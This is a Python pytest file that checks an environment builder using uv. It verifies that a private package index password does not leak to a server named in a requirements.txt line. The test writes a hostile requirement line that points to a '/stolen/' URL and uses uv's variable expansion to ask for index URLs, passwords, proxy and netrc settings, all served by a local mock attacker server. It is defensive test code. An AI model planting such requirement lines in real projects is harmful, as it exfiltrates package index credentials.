"""uv fills in variables in lists of requirements: with the index's address among them, the password in it
goes to whatever server the list names."""

import base64
import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from optimizer.domain.settings import Settings
from optimizer.environment import build_environment
from tests.support.attacks import offer_wheels, sandbox, write_tree

LOGIN = "Basic " + base64.b64encode(b"ada:hunter2").decode()
NAMES = ("UV_DEFAULT_INDEX", "UV_INDEX", "UV_INDEX_INNER_PASSWORD", "HTTP_PROXY", "NETRC")


class Server(BaseHTTPRequestHandler):
    """An index that wants a password for /simple/; everything else is the attacker's."""

    wheels: Path
    seen: list[str]
    logins: list[str]

    def do_GET(self) -> None:
        if not self.path.startswith("/simple/"):
            self.seen.append(self.path + str(self.headers))
            self.answer((self.wheels / "dep_a-1.0-py3-none-any.whl").read_bytes())
        elif self.headers["Authorization"] != LOGIN:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="index"')
            self.end_headers()
        elif self.path.endswith(".whl"):
            self.answer((self.wheels / self.path.rpartition("/")[2]).read_bytes())
        else:
            self.logins.append(self.path)
            name = self.path.split("/")[2]
            found = self.wheels.glob(f"{name.replace('-', '_')}-*.whl")
            self.answer("".join(f'<a href="{file.name}">{file.name}</a>' for file in found).encode())

    do_HEAD = do_GET  # noqa: N815 - as http.server looks for it

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if body[:1] == b"<" else "application/zip")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@contextlib.contextmanager
def serving(wheels: Path) -> Iterator[tuple[int, type[Server]]]:
    handler = type("Handler", (Server,), {"wheels": wheels, "seen": [], "logins": []})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port, handler
        finally:
            server.shutdown()
            thread.join()


def test_no_password_reaches_the_server_that_the_list_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    offer_wheels(tmp_path / "wheels", monkeypatch)
    for name in ("PIP_NO_INDEX", "PIP_FIND_LINKS"):
        monkeypatch.delenv(name)
    with serving(tmp_path / "wheels") as (port, server):
        monkeypatch.setenv("PIP_INDEX_URL", f"http://ada:hunter2@localhost:{port}/simple/")
        monkeypatch.setenv("UV_INDEX_INNER_PASSWORD", "hunter2")
        wanted = "&".join(f"{name}=${{{name}}}" for name in NAMES)
        line = f"dep-a @ http://127.0.0.1:{port}/stolen/dep_a-1.0-py3-none-any.whl?{wanted}\n"
        worktree = write_tree(tmp_path / "target", {"requirements.txt": line, "a.py": ""})
        built = build_environment(worktree, Settings(), tmp_path / "home", sandbox())
    assert built.notes == ()
    assert "pytest" in built.packages
    assert server.logins  # the index got the password
    assert any("UV_DEFAULT_INDEX=http://" in path for path in server.seen)  # uv did fill in the variables
    assert not [path for path in server.seen if "hunter2" in path or LOGIN in path]
    assert not list((tmp_path / "home").rglob("netrc"))
